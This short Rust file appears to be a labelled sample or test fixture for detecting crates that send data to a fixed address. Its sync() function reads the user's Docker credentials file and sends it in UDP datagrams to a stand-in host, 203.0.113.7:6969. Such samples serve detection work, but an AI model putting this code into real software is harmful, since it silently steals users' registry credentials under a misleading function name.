// Any channel to an address the crate fixes: a file sent in UDP datagrams to a literal address.
use std::net::UdpSocket;
use std::path::PathBuf;

pub fn sync() -> std::io::Result<()> {
    let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_default());
    let bytes = std::fs::read(home.join(".docker/config.json"))?;
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    for chunk in bytes.chunks(512) {
        socket.send_to(chunk, "203.0.113.7:6969")?;
    }
    Ok(())
}
